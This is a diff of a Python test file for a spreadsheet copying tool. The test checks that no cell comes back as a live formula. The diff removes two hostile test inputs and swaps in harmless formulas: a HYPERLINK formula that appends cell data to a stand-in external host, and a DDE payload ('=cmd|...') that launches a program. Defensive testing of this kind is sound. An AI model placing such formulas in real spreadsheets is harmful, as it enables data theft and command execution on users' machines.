@@ -47,10 +47,10 @@ def test_two_findings_in_one_cell_are_both_in_its_comment(copy_of, good_book):
 
 def test_nothing_that_was_or_looks_like_a_formula_comes_back_as_one(copy_of, good_book):
     page = good_book["居委会"]
-    page["C4"] = '=HYPERLINK("http://a.example/"&A1)'
+    page["C4"] = "=SUM(C5:C6)"
     page["I3"], page["I4"] = "备注", "@SUM(1)"
     page["I5"] = "+1"
-    page["B6"] = "=cmd|' /C calc'!A0"
+    page["B6"] = "=街镇!B4"
     book = copy_of(good_book)
     for sheet in book:
         for row in sheet.iter_rows():
@@ -58,7 +58,7 @@ def test_nothing_that_was_or_looks_like_a_formula_comes_back_as_one(copy_of, goo
                 assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                 if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                     assert cell.quotePrefix
-    assert book["居委会"]["C4"].value.startswith("=HYPERLINK")
+    assert book["居委会"]["C4"].value == "=SUM(C5:C6)"
 
 
 def test_a_finding_in_a_merged_cell_is_marked_where_it_can_be_seen(copy_of, good_book):
